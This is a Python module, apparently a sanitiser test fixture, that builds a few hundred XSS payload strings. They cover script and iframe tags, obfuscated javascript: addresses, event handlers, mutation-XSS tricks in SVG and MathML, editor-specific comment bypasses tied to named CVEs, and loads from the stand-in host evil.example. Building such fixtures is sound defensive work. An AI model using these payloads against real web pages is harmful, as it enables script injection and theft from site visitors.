"""HTML that tries to smuggle something active past a sanitiser: our own collection, by the trick that each tries.

`ATTACKS` is a few hundred strings, the product of small tables. Each holds ALERT where a browser would run it.
"""

import itertools

ALERT = "alert(1)"

# Tags that run, load, overlay or change the meaning of a page by being there.
_ACTIVE = [
    f"<script>{ALERT}</script>",
    "<script src=//evil.example/x.js></script>",
    f"<SCRIPT\n>{ALERT}</SCRIPT\t>",
    f"<script/x>{ALERT}</script>",
    f"<script type=module>{ALERT}</script>",
    f"<scr<script>ipt>{ALERT}</scr</script>ipt>",
    f"<<script>{ALERT}//<</script>",
    f"<script>{ALERT}",
    f"</p><script>{ALERT}</script><p>",
    f"<iframe src=javascript:{ALERT}></iframe>",
    f"<iframe srcdoc='<script>{ALERT}</script>'></iframe>",
    f"<object data=javascript:{ALERT}></object>",
    f"<embed src=javascript:{ALERT}>",
    f"<applet code={ALERT}></applet>",
    "<base href=//evil.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{ALERT}'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/x.html>",
    f"<style>*{{background:url(javascript:{ALERT})}}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    f"<form action=javascript:{ALERT}><button>Call us</button></form>",
    f"<button formaction=javascript:{ALERT}>x</button>",
    f"<input type=image src=x onerror={ALERT}>",
    "<input name=password type=password autofocus>",
    "<textarea></textarea><select><option>x</select>",
    f"<isindex action=javascript:{ALERT} type=image>",
    f"<frameset onload={ALERT}></frameset>",
    f"<frame src=javascript:{ALERT}>",
    f"<video><source onerror={ALERT}></video>",
    f"<audio src=x onerror={ALERT}></audio>",
    f"<img src=x onerror={ALERT}>",
    f"<image src=x onerror={ALERT}>",
    "<img src=//evil.example/pixel.gif>",
    "<picture><source srcset=//evil.example/x></picture>",
    f"<body onload={ALERT}>",
    f"<html onmouseover={ALERT}>",
    f"<marquee onstart={ALERT}>x</marquee>",
    "<bgsound src=//evil.example/x>",
    f"<details open ontoggle={ALERT}><summary>x</summary></details>",
    f"<dialog open onclose={ALERT}>x</dialog>",
    f"<portal src=javascript:{ALERT}></portal>",
    "<fencedframe src=//evil.example></fencedframe>",
    f"<keygen autofocus onfocus={ALERT}>",
    "<plaintext>the rest of the page",
    "<xmp><b>x</b></xmp>",
    "<listing>x</listing>",
    f"<template><script>{ALERT}</script></template>",
    f"<template shadowrootmode=open><script>{ALERT}</script></template>",
    "<slot name=x></slot>",
    f"<custom-element onclick={ALERT}>x</custom-element>",
    "<p style='position:fixed;inset:0;background:red'>over everything</p>",
    "<p class=citation id=ref-1 name=forms>clobbers</p>",
    "<a id=location href=https://evil.example>clobbers</a>",
    "<p data-cke-saved-href=x data-widget=x data-turbo=x>x</p>",
    "<p is=x-evil slot=a part=b contenteditable tabindex=1 accesskey=x draggable=true popover>x</p>",
    "<a href=https://example.org target=_blank rel=opener ping=//evil.example download>x</a>",
]

# One trick each to write "javascript:" so that a filter does not see it and a browser does, or once did.
_SCRIPTED_ADDRESSES = [
    f"javascript:{ALERT}",
    f"JaVaScRiPt:{ALERT}",
    f" javascript:{ALERT}",
    f"\tjavascript:{ALERT}",
    f"\x01javascript:{ALERT}",
    f"\x1fjavascript:{ALERT}",
    f"java\tscript:{ALERT}",
    f"java\nscript:{ALERT}",
    f"java\r\nscript:{ALERT}",
    f"javascript\t:{ALERT}",
    f"java\x00script:{ALERT}",
    f"&#106;avascript:{ALERT}",
    f"&#x6A;avascript:{ALERT}",
    f"&#0000106avascript:{ALERT}",
    f"&#x0006Aavascript:{ALERT}",
    f"java&Tab;script:{ALERT}",
    f"java&NewLine;script:{ALERT}",
    f"java&#9;script:{ALERT}",
    f"java&#xA;script:{ALERT}",
    f"javascript&colon;{ALERT}",
    f"javascript&#58;{ALERT}",
    f"javascript&#x3a;{ALERT}",
    f"javascript&#0;:{ALERT}",
    f"&#1;javascript:{ALERT}",
    f"&nbsp;javascript:{ALERT}",
    f"\u2028javascript:{ALERT}",
    f"\ufeffjavascript:{ALERT}",
    f"javascript://example.org/%0A{ALERT}",
    f"javascript:/*--></title></style></script>*/{ALERT}",
    f"vbscript:{ALERT}",
    f"livescript:{ALERT}",
    f"mocha:{ALERT}",
    f"data:text/html,<script>{ALERT}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={ALERT}>",
    f"DATA:text/html,{ALERT}",
    "blob:https://example.org/x",
    "filesystem:https://example.org/x",
    f"view-source:javascript:{ALERT}",
    f"feed:javascript:{ALERT}",
    f"jar:javascript:{ALERT}!/x",
    "file:///etc/passwd",
    "ftp://example.org/x",
    "intent://x#Intent;scheme=javascript;end",
    "ms-settings:x",
    f"%6Aavascript:{ALERT}",
    f"urn:javascript:{ALERT}",
    f"x:javascript:{ALERT}",
]
_QUOTES = ['"', "'", ""]

_HANDLERS = (
    "onclick onerror onload onmouseover onfocus onblur ontoggle onanimationstart onanimationend ontransitionend "
    "onpointerenter onpointerrawupdate onbeforeinput onauxclick oncontentvisibilityautostatechange onscrollend onwheel "
    "oncopy onpaste ondragstart onbeforematch onsecuritypolicyviolation onwebkitanimationstart FORMACTION"
).split()
# Between a tag's name and an attribute, or around an attribute's name, where filters and browsers differ.
_GAPS = [
    " ",
    "/",
    "\n",
    "\t",
    "\x0c",
    "\r",
    " /",
    "/ /",
    ' x="y"',
    " x='>' ",
    ' x=">" ',
    " x=` ",
    " <x ",
    ' "',
    " '",
    "\x00 ",
]

# Namespaces and raw-text elements whose parts are read otherwise the second time (mutation XSS).
_MUTATING = [
    f"<svg onload={ALERT}>",
    f"<svg/onload={ALERT}>",
    f"<svg><script>{ALERT}</script></svg>",
    f"<svg><script>{ALERT.replace('(', '&#40;')}</script></svg>",
    f"<svg><a xlink:href=javascript:{ALERT}><text>x</text></a></svg>",
    f"<svg><animate onbegin={ALERT} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{ALERT}>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={ALERT}>#x'>",
    f"<svg><foreignObject><iframe src=javascript:{ALERT}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={ALERT}></style></svg>",
    f"<svg></p><style><a id='</style><img src=1 onerror={ALERT}>'>",
    f"<svg><p><style><!--</style><img src=x onerror={ALERT}>--></style>",
    f"<svg><title><style><img src=x onerror={ALERT}></style></title></svg>",
    f"<svg><desc><noscript><img src=x onerror={ALERT}></noscript></desc></svg>",
    f"<math><a xlink:href=javascript:{ALERT}>x</a></math>",
    f"<math href=javascript:{ALERT}>x</math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={ALERT}></style></mglyph></table></mtext></math>",
    f"<math><mi><mglyph><svg><mtext><style><path id='</style><img onerror={ALERT} src>'>",
    f"<math><annotation-xml encoding=text/html><style><img src=x onerror={ALERT}></style></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={ALERT}>",
    f"<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style><a title='</style><img src onerror={ALERT}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={ALERT}>'>",
    f"<noembed><img title='</noembed><img src=x onerror={ALERT}>'></noembed>",
    f"<noframes><p title='</noframes><img src=x onerror={ALERT}>'></noframes>",
    f"<textarea><p title='</textarea><img src=x onerror={ALERT}>'></textarea>",
    f"<title><p title='</title><img src=x onerror={ALERT}>'></title>",
    f"<xmp><p title='</xmp><img src=x onerror={ALERT}>'></xmp>",
    f"<style><p title='</style><img src=x onerror={ALERT}>'></style>",
    f"<iframe><p title='</iframe><img src=x onerror={ALERT}>'></iframe>",
    f"<plaintext><p title='</plaintext><img src=x onerror={ALERT}>'>",
    f"<template><p title='</template><img src=x onerror={ALERT}>'></template>",
    f"<table><td><a href=x><table><a href=javascript:{ALERT}>",
    f"<table background=javascript:{ALERT}><td onclick={ALERT}>x</table>",
    f"<table><caption onclick={ALERT}><svg><style></caption><img src=x onerror={ALERT}>",
    f"<select><template><img src=x onerror={ALERT}></template></select>",
    f"<select><iframe></select><img src=x onerror={ALERT}>",
    f"<option><style></option></select><b><img src=x onerror={ALERT}></style></option>",
    f"<a href='x' title='</a><img src=x onerror={ALERT}>'>x</a>",
    f'<p title="<img src=x onerror={ALERT}>">x</p>',
    f'<p><a href="https://example.org/?<img src=x onerror={ALERT}>">x</a>',
    f'<a href="https://example.org/&quot;onclick={ALERT}&quot;">x</a>',
    f"<a href='https://example.org/`onclick={ALERT}`'>x</a>",
    f"<em><i><b><strong><a href=javascript:{ALERT}><p><em>x</b></i>",
    f"<b/onclick={ALERT}>x</b>",
    f"<i onclick={ALERT}>x</i>",
    f"<b x='<b>' onclick={ALERT}>x</b>",
    f"&lt;b onclick={ALERT}&gt;x&lt;/b&gt;",
    f"<b&gt;<img src=x onerror={ALERT}>",
]

# Comments, declarations and what the editor itself treats as its own (CVE-2020-9281, CVE-2021-33829, CVE-2024-24815).
_UNSEEN = [
    f"<!--><img src=x onerror={ALERT}>-->",
    f"<!---><img src=x onerror={ALERT}>-->",
    f"<!-- --!><img src=x onerror={ALERT}>-->",
    f"<!--{{cke_protected}}{{C}}%3C!%2D%2D%3E%3Cimg%20src%3Dx%20onerror%3D{ALERT}%3E%2D%2D%3E-->",
    f"<!--{{cke_protected}}%3Cscript%3E{ALERT}%3C%2Fscript%3E-->",
    f"<p data-cke-realelement='%3Cimg%20onerror%3D{ALERT}%3E' class=cke_iframe>x</p>",
    f"<a data-cke-pa-onclick={ALERT} href=https://example.org>x</a>",
    f"<cke:object data=javascript:{ALERT}></cke:object>",
    f"<cke:encoded>%3Cscript%3E{ALERT}%3C/script%3E</cke:encoded>",
    f"<![CDATA[<img src=x onerror={ALERT}>]]>",
    f"<svg><![CDATA[><img src=x onerror={ALERT}>]]></svg>",
    f"<?xml-stylesheet href=javascript:{ALERT}?>",
    f"<?php echo '<script>{ALERT}</script>' ?>",
    f"<%= '<script>{ALERT}</script>' %>",
    f"<!DOCTYPE html [<!ENTITY x '<script>{ALERT}</script>'>]>&x;",
    f"<!ATTLIST x onclick CDATA '{ALERT}'>",
    f"<!--[if gte IE 4]><script>{ALERT}</script><![endif]-->",
    f"</ script><img src=x onerror={ALERT}>",
    f"</><img src=x onerror={ALERT}>",
    f"<//script><img src=x onerror={ALERT}>",
    f"<\x00script>{ALERT}</script>",
    f"<s\x00cript>{ALERT}</script>",
    f"<script\x00>{ALERT}</script>",
    f"\ufeff<script>{ALERT}</script>",
    f"+ADw-script+AD4-{ALERT}+ADw-/script+AD4-",
    f"\u00bcscript\u00be{ALERT}\u00bc/script\u00be",
    f"\uff1cscript\uff1e{ALERT}\uff1c/script\uff1e",
    f"<ſcript>{ALERT}</ſcript>",
    f"<\u212aeygen autofocus onfocus={ALERT}>",
    f"<p>{{% load x %}}{{{{ x|safe }}}}<script>{ALERT}</script>",
]

# What stands around it: an attack that is harmless alone may not be inside a list, a link or a table.
_AROUND = [
    "{}",
    "<p>{}</p>",
    "<ul><li>{}</li></ul>",
    "<a href='https://example.org'>{}</a>",
    "<strong><em>{}",
    "<table>{}</table>",
]


def _links():
    for address, quote in itertools.product(_SCRIPTED_ADDRESSES, _QUOTES):
        yield f"<a href={quote}{address}{quote}>x</a>"


def _handlers():
    for handler in _HANDLERS:
        yield from (f"<{tag} {handler}={ALERT}>x</{tag}>" for tag in ("p", "a", "b", "li", "sup", "span", "x"))
    for gap in _GAPS:
        yield from (f"<{tag}{gap}onclick={ALERT}>x</{tag}>" for tag in ("p", "a", "b", "x"))


def _wrapped():
    for attack, around in itertools.product([*_ACTIVE, *_MUTATING, *_UNSEEN], _AROUND):
        yield around.replace("{}", attack)


ATTACKS: tuple[str, ...] = tuple(dict.fromkeys([*_wrapped(), *_links(), *_handlers()]))
